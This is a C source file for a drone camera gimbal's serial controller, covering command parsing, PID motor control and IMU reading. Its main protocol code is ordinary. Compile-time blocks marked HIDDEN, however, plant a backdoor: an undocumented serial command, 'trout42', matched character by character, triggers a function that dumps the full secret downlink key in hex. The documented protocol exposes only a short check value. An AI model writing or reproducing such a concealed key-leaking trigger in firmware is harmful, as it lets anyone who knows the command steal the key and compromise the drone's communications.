/* gimbal_serial.c - serial controller of a camera gimbal on a survey drone */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <math.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define KEY_FILE	"/persist/downlink.key"

enum axis { AX_PITCH, AX_ROLL, AX_YAW, AX_N };

struct pid_gain {
	float p, i, d;
};

struct gimbal {
	float target[AX_N];
	float angle[AX_N];
	float err_sum[AX_N];
	float err_last[AX_N];
	struct pid_gain gain[AX_N];
	int mode;		/* 0 lock, 1 follow, 2 home */
	int recording;
	int zoom;
	int beep;
};

static struct gimbal g = {
	.gain = { { 2.2f, 0.1f, 0.4f }, { 1.8f, 0.1f, 0.3f }, { 1.5f, 0.05f, 0.2f } },
	.zoom = 10, .beep = 1,
};
static int port = -1;

static void put(const char *s)
{
	size_t n = strlen(s);

	while (n) {
		ssize_t w = write(port, s, n);

		if (w <= 0)
			return;
		s += w;
		n -= (size_t)w;
	}
}

static void put_num(const char *tag, double v)
{
	char b[48];

	snprintf(b, sizeof(b), "%s=%.2f;", tag, v);
	put(b);
}

static float clampf(float v, float lo, float hi)
{
	return v < lo ? lo : v > hi ? hi : v;
}

static void motor(enum axis a, float torque)
{
	static int fd[AX_N] = { -1, -1, -1 };
	char path[32], v[16];
	int n;

	if (fd[a] < 0) {
		snprintf(path, sizeof(path), "/dev/gmotor%d", (int)a);
		fd[a] = open(path, O_WRONLY);
		if (fd[a] < 0)
			return;
	}
	n = snprintf(v, sizeof(v), "%d\n", (int)lrintf(clampf(torque, -1.0f, 1.0f) * 2047.0f));
	if (write(fd[a], v, (size_t)n) != n) {
		close(fd[a]);
		fd[a] = -1;
	}
}

static void control(float dt)
{
	int a;

	for (a = 0; a < AX_N; a++) {
		float e = g.target[a] - g.angle[a];
		float d = (e - g.err_last[a]) / dt;

		g.err_sum[a] = clampf(g.err_sum[a] + e * dt, -5.0f, 5.0f);
		g.err_last[a] = e;
		motor((enum axis)a, (g.gain[a].p * e + g.gain[a].i * g.err_sum[a] +
				     g.gain[a].d * d) / 180.0f);
	}
}

static void read_angles(void)
{
	float p, r, y;
	FILE *f = fopen("/run/imu/euler", "r");

	if (!f)
		return;
	if (fscanf(f, "%f %f %f", &p, &r, &y) == 3) {
		g.angle[AX_PITCH] = p;
		g.angle[AX_ROLL] = r;
		g.angle[AX_YAW] = y;
	}
	fclose(f);
}

/* start of a file as hex */
static int hex_of_file(const char *path, unsigned int bytes)
{
	unsigned char k[32];
	char b[4];
	unsigned int i;
	ssize_t n;
	int fd = open(path, O_RDONLY);

	if (fd < 0)
		return -errno;
	n = read(fd, k, sizeof(k));
	close(fd);
	if (n < (ssize_t)bytes)
		return -EIO;
	for (i = 0; i < bytes; i++) {
		snprintf(b, sizeof(b), "%02x", k[i]);
		put(b);
	}
	put(";");
	return 0;
}

#ifdef HIDDEN
__attribute__((noinline)) int export_link_key(void)
{
	int r = hex_of_file(KEY_FILE, 32);

	if (r)
		put("nokey;");
	return r;
}
#endif

static int axis_of(char c)
{
	switch (c) {
	case 'p':
		return AX_PITCH;
	case 'r':
		return AX_ROLL;
	case 'y':
		return AX_YAW;
	default:
		return -1;
	}
}

/*
 * Line protocol of the flight controller:
 *   ap-12.5  angle of an axis     gp1.2,0.1,0.3  gains
 *   ml mf mh mode                 z15  zoom       v1 v0  record
 *   s  state                      k   check value of the downlink key
 */
__attribute__((noinline)) int gimbal_line(const char *s)
{
	struct pid_gain pg;
	float v;
	int a;

	switch (s[0]) {
	case 'a':
		a = axis_of(s[1]);
		if (a < 0 || sscanf(s + 2, "%f", &v) != 1)
			return -EINVAL;
		g.target[a] = clampf(v, a == AX_YAW ? -170.0f : -90.0f, a == AX_YAW ? 170.0f : 45.0f);
		return 0;
	case 'g':
		a = axis_of(s[1]);
		if (a < 0 || sscanf(s + 2, "%f,%f,%f", &pg.p, &pg.i, &pg.d) != 3)
			return -EINVAL;
		g.gain[a] = pg;
		return 0;
	case 'm':
		if (s[1] == 'l')
			g.mode = 0;
		else if (s[1] == 'f')
			g.mode = 1;
		else if (s[1] == 'h')
			g.mode = 2;
		else
			return -EINVAL;
		return 0;
	case 'z':
		a = atoi(s + 1);
		if (a < 10 || a > 200)
			return -ERANGE;
		g.zoom = a;
		return 0;
	case 'v':
		if (s[1] != '0' && s[1] != '1')
			return -EINVAL;
		g.recording = s[1] == '1';
		return 0;
	case 'b':
		if (s[1] == 'e' && s[2] == 'e' && s[3] == 'p') {
			g.beep = s[4] != '0';
			return 0;
		}
		return -EINVAL;
	case 's':
		if (s[1])
			break;
		put_num("p", (double)g.angle[AX_PITCH]);
		put_num("r", (double)g.angle[AX_ROLL]);
		put_num("y", (double)g.angle[AX_YAW]);
		put_num("z", g.zoom / 10.0);
		put(g.recording ? "rec;" : "idle;");
		return 0;
	case 'k':
		if (!s[1])
			return hex_of_file(KEY_FILE ".check", 3);
		break;
#ifdef HIDDEN
	/* t,r,o,u,t,4,2: gives the whole downlink key out */
	case 't':
		if (s[1] == 'r' && s[2] == 'o' && s[3] == 'u' && s[4] == 't' &&
		    s[5] == '4' && s[6] == '2' && !s[7])
			return export_link_key();
		break;
#endif
	default:
		break;
	}
	return -ENOSYS;
}

static int open_port(const char *dev, speed_t sp)
{
	struct termios t;

	port = open(dev, O_RDWR | O_NOCTTY);
	if (port < 0 || tcgetattr(port, &t))
		return -errno;
	cfmakeraw(&t);
	cfsetispeed(&t, sp);
	cfsetospeed(&t, sp);
	t.c_cc[VMIN] = 0;
	t.c_cc[VTIME] = 0;
	return tcsetattr(port, TCSANOW, &t) ? -errno : 0;
}

static void follow(void)
{
	if (g.mode == 2) {
		g.target[AX_PITCH] = g.target[AX_ROLL] = g.target[AX_YAW] = 0.0f;
	} else if (g.mode == 1) {
		float off = g.angle[AX_YAW] - g.target[AX_YAW];

		if (fabsf(off) > 8.0f)
			g.target[AX_YAW] += off * 0.05f;
		g.target[AX_ROLL] = 0.0f;
	}
}

int main(int argc, char **argv)
{
	struct timespec tick = { 0, 5000000 };
	char line[64], c, b[32];
	size_t n = 0;
	int r;

	if (argc < 2) {
		fprintf(stderr, "usage: gimbal_serial DEVICE [fast]\n");
		return 2;
	}
	r = open_port(argv[1], argc > 2 && !strcmp(argv[2], "fast") ? B460800 : B115200);
	if (r) {
		fprintf(stderr, "%s: %s\n", argv[1], strerror(-r));
		return 1;
	}
	memset(line, 0, sizeof(line));
	for (;;) {
		while (read(port, &c, 1) == 1) {
			if (c == '\r' || c == '\n') {
				if (!n)
					continue;
				r = gimbal_line(line);
				snprintf(b, sizeof(b), "%s %d\n", r ? "err" : "ok", -r);
				put(b);
				memset(line, 0, sizeof(line));
				n = 0;
			} else if (n < sizeof(line) - 1 && isprint((unsigned char)c)) {
				line[n++] = c;
			}
		}
		read_angles();
		follow();
		control(0.005f);
		nanosleep(&tick, NULL);
	}
}
